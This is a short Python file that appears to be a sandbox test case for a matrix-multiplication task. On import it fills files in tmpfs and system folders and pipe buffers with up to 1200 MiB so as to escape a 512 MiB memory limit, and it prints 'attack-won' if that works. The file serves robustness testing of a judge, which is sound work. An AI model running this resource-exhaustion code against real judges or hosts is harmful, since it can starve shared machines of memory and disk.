"""Keeps memory as files in every folder that it may write to, and in pipes: beside what the limit of memory counts.

covers = ["heap, mmap, memfd and tmpfs bombs"]
task = "matmul"
verdict = ["ACCEPTED", "MEMORY_LIMIT", "RUNTIME_ERROR"]
"""

import fcntl
import os

LIMIT = 1200 << 20
pipes = []


def fill():
    taken = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/", os.getcwd()):
        try:
            with open(f"{folder}/attack-mark-bomb", "wb", 0) as file:
                while taken < LIMIT:
                    taken += file.write(bytes(1 << 22))
        except OSError:
            pass
    try:
        while taken < LIMIT:
            pipes.append(os.pipe())
            fcntl.fcntl(pipes[-1][1], 1031, 1 << 20)
            os.set_blocking(pipes[-1][1], False)
            taken += os.write(pipes[-1][1], bytes(1 << 20))
    except OSError:
        pass
    return taken


taken = fill()
if taken > 512 << 20:
    print("attack-won: keeps", taken >> 20, "MiB beside its memory limit of 512 MiB")


def matmul(a, b):
    return a @ b
